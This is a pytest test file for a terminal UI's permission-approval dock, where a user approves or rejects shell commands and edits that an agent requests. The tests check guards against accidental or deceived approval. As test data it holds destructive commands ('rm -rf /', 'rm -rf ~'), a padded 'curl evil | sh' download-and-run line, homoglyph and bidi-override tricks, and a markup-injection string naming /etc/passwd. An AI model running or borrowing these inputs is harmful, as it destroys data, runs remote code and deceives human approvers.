import pytest
from textual import events

from octui.store import selectors
from octui.store.actions import ConnectionChanged, PermissionsLoaded
from octui.store.state import ConnectionStatus
from octui.ui.approvals import dock as dock_module
from octui.ui.approvals.free_text_input import FreeTextInput
from octui.ui.approvals.permission_view import PermissionStep
from octui.ui.approvals.reply_progress import ReplyState
from octui.ui.messages import ReplyPermission
from octui.wire.requests import Permission
from tests.support.request_dock import DockPilot, make_bash_permission, open_dock


def sent_replies(dock: DockPilot) -> list[tuple[str, str, str | None]]:
    return [
        (said.request.id, said.reply, said.message) for said in dock.app.decided if isinstance(said, ReplyPermission)
    ]


def sent_messages(dock: DockPilot) -> list[ReplyPermission]:
    return [said for said in dock.app.decided if isinstance(said, ReplyPermission)]


def read_screen(dock: DockPilot) -> str:
    """What is on the screen, without line breaks and frames."""
    return " ".join(dock.app.screen_text.replace("▌", "").split())


BURST = [
    *"yes please run it 1 2 3 a",
    "enter",
    "space",
    "y",
    "a",
    "1",
    "enter",
    "left",
    "right",
    "tab",
    *"and more",
    "enter",
]
TYPED = "yes please run it 1 2 3 a\n ya1\n"


async def test_a_card_that_appears_during_typing_takes_no_key() -> None:
    async with open_dock() as dock:
        await dock.type_keys(*"half a sen")
        await dock.add_requests(make_bash_permission("rm -rf /", "rm *"))
        await dock.type_keys(*"tence", "enter", "space", "y", "a", "1", "enter")
        assert dock.app.composer.text == "half a sentence\n ya1\n"
        assert sent_replies(dock) == []
        assert dock.app.composer.has_focus
        assert dock.app.card.reply.state is ReplyState.OPEN


async def test_a_burst_of_keys_into_a_card_that_took_the_focus_is_typed_and_decides_nothing() -> None:
    async with open_dock() as dock:
        dock.app.at_rest = lambda: not dock.app.composer.text
        await dock.add_requests(make_bash_permission("rm -rf /", "rm *"))
        assert dock.app.card.is_focused
        await dock.type_keys(*BURST)
        assert sent_replies(dock) == []
        assert dock.app.composer.text.startswith(TYPED)
        assert "and more" in dock.app.composer.text
        assert dock.app.composer.has_focus


async def test_a_burst_that_comes_all_at_once_keeps_its_order() -> None:
    async with open_dock() as dock:
        dock.app.at_rest = lambda: not dock.app.composer.text
        await dock.add_requests(make_bash_permission("rm -rf /", "rm *"))
        for character in "the quick brown fox jumps over the lazy dog, 60 keys in one go!":
            dock.app.post_message(events.Key(character, character))
        dock.app.post_message(events.Key("enter", "\r"))
        await dock.pilot.pause()
        await dock.pilot.pause()
        assert dock.app.composer.text == "the quick brown fox jumps over the lazy dog, 60 keys in one go!\n"
        assert sent_replies(dock) == []


async def test_typing_into_a_card_that_took_the_focus_long_ago_is_still_typing() -> None:
    async with open_dock() as dock:
        dock.app.at_rest = lambda: not dock.app.composer.text
        await dock.add_requests(make_bash_permission("make", "make *"))
        dock.app.clock.advance(60)
        await dock.type_keys(*"hello", "enter")
        assert dock.app.composer.text == "hello\n"
        assert sent_replies(dock) == []


async def test_a_paste_answers_nothing_and_is_not_lost() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        dock.app.clock.advance(5)
        dock.app.post_message(events.Paste("y\n\n1\nallow\n"))
        await dock.pilot.pause()
        await dock.pilot.pause()
        assert dock.app.composer.text == "y\n\n1\nallow\n"
        assert sent_replies(dock) == []


async def test_enter_counts_once_it_stands_alone_after_a_deliberate_move_and_not_before() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        dock.app.clock.advance(10)
        await dock.focus_card()
        await dock.type_keys("enter", every=0.4)
        assert sent_replies(dock) == []
        await dock.type_keys("enter", every=0.34)
        assert sent_replies(dock) == []
        await dock.type_keys("enter", every=0.36)
        assert sent_replies(dock) == []
        await dock.type_keys("enter", every=1.11)
        assert sent_replies(dock) == [("per_1", "once", None)]


async def test_enter_counts_as_terminals_send_it() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        dock.app.clock.advance(1)
        dock.app.post_message(events.Key("enter", "\r"))
        await dock.wait_until(lambda: bool(dock.app.decided))
        assert sent_replies(dock) == [("per_1", "once", None)]


async def test_a_key_that_means_nothing_makes_the_card_wait_for_silence_again() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("delete")
        await dock.type_keys("enter", every=0.3)
        assert sent_replies(dock) == []


async def test_a_word_typed_into_a_card_goes_to_the_prompt() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys(*"hello", "enter")
        assert dock.app.composer.text == "hello\n"
        assert sent_replies(dock) == []


async def test_no_key_but_enter_and_space_decides() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        for key in (*"yanoYAr1hjkl", "ctrl+j", "alt+enter", "backspace"):
            await dock.focus_card()
            await dock.press_keys(key)
        assert sent_replies(dock) == []


async def test_left_and_right_choose_and_enter_takes() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("right", "right", "enter")
        assert sent_replies(dock) == [("per_1", "reject", None)]


@pytest.mark.parametrize("key", ["enter", "space"])
async def test_an_answer_that_was_just_selected_can_be_given_at_once(key: str) -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make"), make_bash_permission("lint", id="per_2"))
        await dock.focus_card()
        await dock.press_keys(key)
        await dock.settle_request("per_1")
        await dock.wait_for_buttons()
        await dock.type_keys("right", every=0.6)
        await dock.type_keys(key, every=0.1)
        assert sent_replies(dock) == [("per_1", "once", None), ("per_2", "reject", None)]


async def test_who_comes_to_a_card_seen_before_need_not_wait_to_select_and_answer() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make"))
        dock.app.clock.advance(5)
        await dock.focus_card()
        await dock.wait_for_buttons()
        await dock.type_keys("right", "enter", every=0.1)
        assert sent_replies(dock) == [("per_1", "reject", None)]


async def test_an_arrow_pressed_before_the_card_was_seen_is_no_choice() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make"))
        await dock.focus_card()
        await dock.wait_for_buttons()
        await dock.type_keys("right", every=0.3)
        await dock.type_keys("enter", every=0.3)
        assert sent_replies(dock) == []


async def test_a_choice_does_not_outlast_a_request_that_is_replaced() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make"))
        await dock.focus_card()
        await dock.press_keys("right", "delete")
        await dock.type_keys("right", "enter", every=0.1)
        assert sent_replies(dock) == []
        await dock.press_keys("right")
        await dock.add_requests(make_bash_permission("rm -rf /"))
        await dock.type_keys("enter", every=0.45)
        assert sent_replies(dock) == []


def rest_after_judgement(dock: DockPilot) -> None:
    pace = dock.app.dock.pace
    pace.begin_judgement()
    dock.app.clock.advance(0.02)
    pace.end_judgement()


async def replace_request(dock: DockPilot, permission: Permission) -> None:
    """The server replaces it, and nothing waits for that to be shown."""
    app = dock.app
    app.store.dispatch_action(PermissionsLoaded((permission,)))
    app.dock.show_requests(selectors.list_pending_requests(app.store.state), app.store.state, app.viewed)
    await dock.pilot.pause()


async def test_of_a_request_that_is_replaced_over_and_over_only_the_newest_version_is_judged() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make"))
        await dock.focus_card()
        dock.app.clock.advance(5)
        rest_after_judgement(dock)
        for number in range(5):
            await replace_request(dock, make_bash_permission(f"make step{number}"))
            assert "step" not in dock.app.screen_text
            await dock.type_keys("enter", every=0.001)
        assert sent_replies(dock) == []
        dock.app.clock.advance(0.1)
        await dock.wait_until(lambda: "step4" in dock.app.screen_text and not dock.app.card.is_suspended)
        await dock.type_keys("enter", every=0.3)
        assert sent_replies(dock) == []
        await dock.type_keys("enter", every=2.0)
        assert [said.request for said in sent_messages(dock)] == [make_bash_permission("make step4")]


async def test_a_request_that_says_again_what_it_said_can_be_answered() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make"))
        await dock.focus_card()
        rest_after_judgement(dock)
        await replace_request(dock, make_bash_permission("rm -rf /"))
        await replace_request(dock, make_bash_permission("make"))
        dock.app.clock.advance(5)
        await dock.wait_until(lambda: not dock.app.card.is_suspended)
        await dock.type_keys("enter", every=2.0)
        assert [said.request for said in sent_messages(dock)] == [make_bash_permission("make")]


async def test_going_on_past_the_last_button_never_comes_round_to_allow() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys(*["right"] * 5)
        assert dock.app.permission_view.button_row.selected == 3


async def test_other_keys_that_move_along_the_buttons() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        places = []
        for key in ("l", "tab", "h", "shift+tab", "shift+tab"):
            await dock.press_keys(key)
            places.append(dock.app.permission_view.button_row.selected)
        assert places == [1, 2, 1, 0, 3]


async def test_esc_leaves_without_deciding_and_the_card_stays() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("escape")
        assert dock.app.composer.has_focus
        assert dock.app.dock.display
        await dock.type_keys(*"go on")
        assert dock.app.composer.text == "go on"
        assert sent_replies(dock) == []


async def test_always_shows_what_is_remembered_before_it_is_confirmed() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("rm -rf build && make", "rm *", "make *"))
        await dock.focus_card()
        await dock.press_keys("right", "enter")
        assert sent_replies(dock) == []
        shown = dock.app.screen_text
        assert "• rm *" in shown
        assert "• make *" in shown
        assert "Until the server restarts" in shown
        assert "/srv/shop" in shown
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "always", None)]


async def test_always_holds_for_this_session_unless_more_was_chosen_and_read() -> None:
    async with open_dock() as dock:
        dock.app.store.dispatch_action(
            ConnectionChanged(status=ConnectionStatus.LIVE, embedded=True, ends_with_octui=True)
        )
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("right", "enter")
        assert "[ This session ]   Until octui ends     This folder, kept     Back" in dock.app.screen_text
        assert "Until octui ends, bash requests" in read_screen(dock)
        assert "in this session and its subagents only" in read_screen(dock)
        await dock.press_keys("right")
        assert "in every session of /srv/shop" in read_screen(dock)
        await dock.press_keys("right")
        assert "even after restarts" in read_screen(dock)
        await dock.press_keys("left", "left")
        assert "in this session and its subagents only" in read_screen(dock)
        assert sent_replies(dock) == []
        await dock.press_keys("right", "right", "enter")
        assert [(reply.reply, reply.scope) for reply in sent_messages(dock)] == [("always", "directory")]


async def test_a_scope_whose_text_was_not_drawn_yet_cannot_be_confirmed() -> None:
    async with open_dock() as dock:
        dock.app.store.dispatch_action(ConnectionChanged(status=ConnectionStatus.LIVE, embedded=True))
        await dock.add_requests(make_bash_permission("make", *(f"make step{number} *" for number in range(40))))
        await dock.focus_card()
        await dock.press_keys("end", "right", "enter")
        await dock.read_to_end()
        await dock.press_keys("right", "enter")
        assert sent_replies(dock) == []
        assert not dock.app.permission_view.button_row.options[1].is_enabled
        await dock.read_to_end()
        await dock.press_keys("enter")
        assert [(reply.reply, reply.scope) for reply in sent_messages(dock)] == [("always", "server")]


async def test_the_key_that_opened_the_second_step_cannot_confirm_it() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("right")
        await dock.type_keys("enter", "enter", "enter", every=0.1)
        assert sent_replies(dock) == []


async def test_back_from_always_remembers_nothing() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("right", "enter", "right", "enter")
        assert dock.app.permission_view.step is PermissionStep.CHOOSE
        await dock.press_keys("enter", "escape")
        assert dock.app.permission_view.step is PermissionStep.CHOOSE
        assert sent_replies(dock) == []
        assert dock.app.card.is_focused


async def test_what_always_cannot_remember_it_does_not_offer() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make"))
        assert "Allow once" in dock.app.screen_text
        assert "Allow always" not in dock.app.screen_text


async def test_one_key_rejects_once_the_card_takes_keys_and_allows_nothing() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("rm -rf build", "rm *"))
        await dock.focus_card()
        await dock.press_keys("right", "enter", "ctrl+r")
        assert sent_replies(dock) == []
        await dock.press_keys("escape", "ctrl+r")
        assert sent_replies(dock) == [("per_1", "reject", None)]


async def test_reject_with_a_reason_sends_the_words() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("rm -rf build", "rm *"))
        await dock.focus_card()
        await dock.press_keys("left", "enter")
        await dock.type_keys(*"use make clean", "shift+enter", *"please")
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "reject", "use make clean\nplease")]


async def test_a_reason_that_was_left_is_still_there_and_an_empty_one_is_not_sent() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("rm -rf build", "rm *"))
        await dock.focus_card()
        await dock.press_keys("left", "enter", "enter")
        assert sent_replies(dock) == []
        await dock.type_keys(*"because", "escape")
        assert dock.app.card.is_focused
        await dock.show_dock()
        await dock.press_keys("enter")
        assert dock.app.card.query_exactly_one(FreeTextInput).text == "because"
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "reject", "because")]


async def test_a_paste_into_the_reason_does_not_send_it() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("rm -rf build", "rm *"))
        await dock.focus_card()
        await dock.press_keys("left", "enter")
        dock.app.post_message(events.Paste("first\nsecond\n"))
        await dock.pilot.pause()
        await dock.pilot.pause()
        assert sent_replies(dock) == []
        assert dock.app.card.query_exactly_one(FreeTextInput).text == "first\nsecond\n"


HEREDOC = "cat <<'EOF' > notes\n" + "\n".join(f"line {number}" for number in range(400)) + "\nEOF\nrm -rf ~"


@pytest.mark.parametrize("size", [(140, 42), (80, 24), (60, 20), (40, 10)])
async def test_a_hidden_tail_keeps_allow_closed_until_it_was_shown(size: tuple[int, int]) -> None:
    async with open_dock(size) as dock:
        await dock.add_requests(make_bash_permission(HEREDOC, "cat *"))
        assert "more lines · pgdn" in dock.app.screen_text
        await dock.focus_card()
        await dock.press_keys("enter", "right", "enter")
        assert sent_replies(dock) == []
        assert dock.app.permission_view.step is PermissionStep.CHOOSE
        await dock.press_keys("left")
        await dock.read_to_end()
        assert "rm -rf ~" in dock.app.screen_text or "in ~/shop" in dock.app.screen_text
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "once", None)]


def make_edit_permission(changed: int, context: int) -> Permission:
    lines = [" before"] * 3 + [f"+line {number}" for number in range(changed)] + [" after"] * context
    head = f"--- a.py\n+++ a.py\n@@ -1,{3 + context} +1,{3 + context + changed} @@\n"
    return Permission(
        id="per_1",
        session_id="ses_here",
        permission="edit",
        patterns=("a.py",),
        always=("*",),
        metadata={"filepath": "/srv/shop/a.py", "diff": head + "\n".join(lines) + "\n"},
    )


async def test_a_change_may_be_allowed_once_its_changed_lines_were_seen() -> None:
    async with open_dock((80, 29)) as dock:
        await dock.add_requests(make_edit_permission(15, 9))
        await dock.focus_card()
        await dock.wait_for_buttons()
        assert dock.app.permission_view.body.was_end_shown and dock.app.permission_view.body.hidden_below.number
        assert "line 14" in dock.app.screen_text and "@@" not in dock.app.screen_text
        assert "file:" not in dock.app.screen_text
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "once", None)]


async def test_a_change_that_goes_on_out_of_sight_may_not() -> None:
    async with open_dock((80, 24)) as dock:
        await dock.add_requests(make_edit_permission(60, 3))
        await dock.focus_card()
        await dock.press_keys("enter")
        assert sent_replies(dock) == [] and not dock.app.permission_view.body.was_end_shown
        await dock.read_to_end()
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "once", None)]


async def test_a_space_that_comes_too_early_decides_nothing_and_leaves_no_card() -> None:
    async with open_dock() as dock:
        dock.app.at_rest = lambda: not dock.app.composer.text
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.type_keys("space")
        assert dock.app.card.is_focused and dock.app.composer.text == "" and sent_replies(dock) == []
        await dock.type_keys("x", every=0.05)
        assert dock.app.composer.text == " x" and sent_replies(dock) == []


async def test_the_number_of_hidden_lines_is_shown_and_shrinks_while_reading() -> None:
    async with open_dock((80, 24)) as dock:
        await dock.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        card = dock.app.card
        await dock.focus_card()
        await dock.wait_until(lambda: f"▼ {50 - card.view.body.size.height} more lines · pgdn" in dock.app.screen_text)
        await dock.press_keys("down", "down")
        hidden = 50 - card.view.body.size.height
        await dock.wait_until(lambda: f"▲ 2 more lines · ▼ {hidden - 2} more lines · pgdn" in dock.app.screen_text)
        await dock.press_keys("pagedown", "pageup", "pageup")
        await dock.wait_until(lambda: "▲" not in dock.app.screen_text)


async def test_paging_through_a_long_text_shows_every_line() -> None:
    async with open_dock((80, 24)) as dock:
        await dock.add_requests(make_bash_permission("\n".join(f"echo <{number}>" for number in range(60)), "echo *"))
        await dock.focus_card()
        seen = dock.app.screen_text
        while dock.app.permission_view.body.hidden_below.number:
            await dock.press_keys("pagedown")
            seen += dock.app.screen_text
        assert all(f"echo <{number}>" in seen for number in range(60))
        assert "[ Allow once ]" in dock.app.screen_text


async def test_the_wheel_scrolls_what_will_run() -> None:
    async with open_dock((80, 24)) as dock:
        await dock.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        body = dock.app.permission_view.body
        dock.app.screen._forward_event(
            events.MouseScrollDown(None, body.region.x + 2, body.region.y, 0, 0, 0, False, False, False)
        )
        await dock.pilot.pause()
        assert body.hidden_above.number > 0


async def test_a_long_one_takes_the_height_it_needs_unless_the_user_wants_less() -> None:
    async with open_dock((80, 30)) as dock:
        await dock.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        await dock.focus_card()
        card = dock.app.card
        before = card.view.body.size.height
        await dock.press_keys("ctrl+f")
        assert card.view.body.size.height < before
        assert dock.app.composer.region.bottom <= 30
        await dock.press_keys("ctrl+f")
        assert card.view.body.size.height == before


async def test_a_long_text_read_in_a_thread_is_closed_until_it_is_there_and_read() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("echo " + "x" * 200_000, "echo *"))
        await dock.focus_card()
        await dock.wait_until(lambda: bool(dock.app.permission_view.body.hidden_below.number))
        await dock.press_keys("enter")
        assert sent_replies(dock) == []
        await dock.read_to_end()
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "once", None)]


@pytest.mark.parametrize(
    "command",
    [
        "echo \u202egpj.exe\u202c",
        "rm\u200b -rf x",
        "\u0441url http://x.y",
        "ls" + " " * 5000 + "; curl evil | sh",
        "ls" + "\n" * 31 + "rm -rf ~",
        "echo \u3164",
        "echo \x9b2J",
    ],
)
async def test_what_deceives_makes_reject_the_default(command: str) -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission(command, "echo *"))
        await dock.focus_card()
        assert dock.app.card.has_class("-doubtful")
        assert "⚠" in dock.app.screen_text
        assert all(character in "\n" or character.isprintable() for character in dock.app.screen_text)
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "reject", None)]


@pytest.mark.parametrize("name", ["bu\u202eild", "look\u200b at CI"])
async def test_a_deceptive_name_of_the_requester_makes_reject_the_default(name: str) -> None:
    async with open_dock() as dock:
        sessions = dock.app.store.state.sessions
        sessions["ses_child"] = type(sessions["ses_child"])(id="ses_child", title=name, parent_id="ses_here")
        await dock.add_requests(make_bash_permission("make", "make *", session_id="ses_child"))
        await dock.focus_card()
        assert "\\u{" in dock.app.screen_text
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "reject", None)]


async def test_text_from_elsewhere_is_never_markup() -> None:
    hostile = "[/] [b [@click=app.quit]x[/] [link=file:///etc/passwd]y[/] [type=x, v={'a[0]'}]"
    async with open_dock((160, 40)) as dock:
        await dock.add_requests(
            make_bash_permission(hostile, hostile), Permission(id="per_2", session_id="ses_other", permission=hostile)
        )
        assert hostile in dock.app.screen_text
        await dock.focus_card()
        await dock.press_keys("shift+right")
        assert hostile in dock.app.screen_text
        await dock.press_keys("shift+left", "right", "enter")
        assert f"• {hostile}" in dock.app.screen_text


async def test_while_an_answer_is_on_its_way_nothing_more_can_be_decided() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("enter", "enter", "right", "enter")
        assert sent_replies(dock) == [("per_1", "once", None)]
        assert "Sending" in dock.app.screen_text
        dock.app.dock.confirm_delivery("per_1")
        await dock.press_keys("enter")
        assert len(sent_replies(dock)) == 1
        await dock.settle_request("per_1")
        assert dock.app.dock.request_count == 0
        assert not dock.app.dock.display
        assert dock.app.composer.has_focus


async def test_an_answer_that_was_not_delivered_says_so_and_is_not_sent_again() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("enter")
        dock.app.dock.report_failure("per_1", "The server did not answer.")
        await dock.pilot.pause()
        shown = dock.app.screen_text
        assert "Could not send your answer: The server did not answer" in shown
        assert "Nothing was allowed" in shown
        await dock.show_dock()
        dock.app.clock.advance(60)
        assert len(sent_replies(dock)) == 1
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "once", None)] * 2


async def test_a_reason_survives_a_failed_delivery() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("left", "enter")
        await dock.type_keys(*"no")
        await dock.press_keys("enter")
        dock.app.dock.report_failure("per_1", "The server did not answer.")
        await dock.pilot.pause()
        assert "Could not send your answer" in dock.app.screen_text
        await dock.focus_card()
        await dock.press_keys("enter")
        assert sent_replies(dock) == [("per_1", "reject", "no")] * 2


async def test_letters_typed_after_the_answer_go_to_the_prompt() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("enter")
        await dock.type_keys(*"next thing")
        assert dock.app.composer.text == "next thing"


async def test_an_answer_the_server_took_and_forgot_can_be_given_again() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("enter")
        dock.app.dock.confirm_delivery("per_1")
        dock.app.clock.advance(6)
        await dock.press_keys("enter")
        assert len(sent_replies(dock)) == 1
        assert "is still asking" in dock.app.screen_text
        await dock.press_keys("enter")
        assert len(sent_replies(dock)) == 2


async def test_a_request_answered_elsewhere_says_so_and_a_late_key_does_nothing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(dock_module, "CLOSED_SECONDS", 60)
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.settle_request("per_1")
        assert "Answered elsewhere" in dock.app.screen_text
        await dock.press_keys("enter", "right", "enter")
        assert sent_replies(dock) == []


async def test_the_card_of_a_request_answered_elsewhere_leaves_after_a_moment() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.settle_request("per_1")
        await dock.wait_until(lambda: not dock.app.dock.display)
        assert dock.app.composer.has_focus


async def test_a_half_written_note_outlives_its_request() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("left", "enter")
        await dock.type_keys(*"my reason")
        await dock.settle_request("per_1")
        await dock.press_keys("enter")
        assert sent_replies(dock) == []
        assert "my reason" in dock.app.screen_text
        await dock.press_keys("escape")
        await dock.wait_until(lambda: not dock.app.dock.display)
        assert dock.app.composer.has_focus


async def test_what_would_run_changing_under_the_finger_begins_the_choice_again() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        await dock.press_keys("down")
        await dock.add_requests(make_bash_permission("rm -rf /", "rm *"))
        await dock.type_keys("enter", every=0.1)
        assert sent_replies(dock) == []
        assert "rm -rf /" in dock.app.screen_text


async def test_a_click_on_a_button_counts_once_it_stood_still() -> None:
    async with open_dock() as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        row = dock.app.permission_view.button_row
        reject = dock.app.screen_text.splitlines()[row.region.y].index("Reject")
        at = (reject - row.region.x + 1, 0)
        await dock.pilot.click(row, offset=at)
        assert sent_replies(dock) == []
        dock.app.clock.advance(1)
        await dock.pilot.click(row, offset=at)
        await dock.pilot.pause()
        assert sent_replies(dock) == [("per_1", "reject", None)]


@pytest.mark.parametrize(
    ("columns", "labels"),
    [
        (80, ("Allow once", "Allow always: make …", "Reject", "Reject with a note…")),
        (66, ("Allow once", "Always: make …", "Reject", "Reject…")),
        (60, ("Allow once", "Always…", "Reject", "Reject…")),
    ],
)
async def test_buttons_stay_in_one_row_with_as_many_words_as_fit(columns: int, labels: tuple[str, ...]) -> None:
    async with open_dock((columns, 20)) as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        row = dock.app.permission_view.button_row
        assert row.size.height == 1
        assert tuple(option.label for option in row.options) == labels


async def test_buttons_wrap_where_even_their_shortest_words_do_not_fit() -> None:
    async with open_dock((40, 20)) as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        assert dock.app.permission_view.button_row.size.height == 2


async def test_the_smallest_screen_still_shows_what_who_and_every_answer() -> None:
    async with open_dock((40, 10)) as dock:
        await dock.add_requests(make_bash_permission("make", "make *"))
        await dock.focus_card()
        shown = dock.app.screen_text
        assert "$ make" in shown
        assert "Allow once" in shown
        assert shown.count("Reject") == 2
        await dock.read_to_end()
        assert "Build" in dock.app.screen_text
        assert dock.app.composer.region.bottom <= 10


async def test_the_same_request_shown_again_keeps_choice_and_scroll_position() -> None:
    async with open_dock((80, 24)) as dock:
        await dock.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        await dock.focus_card()
        await dock.press_keys("right", "right", "down", "down", "down")
        await dock.show_dock()
        await dock.add_requests(make_bash_permission("make", "make *", id="per_2"))
        card = dock.app.card
        assert card.request_id == "per_1"
        assert card.view.body.hidden_above == (3, True)
        assert dock.app.permission_view.button_row.selected == 2
        assert card.is_focused
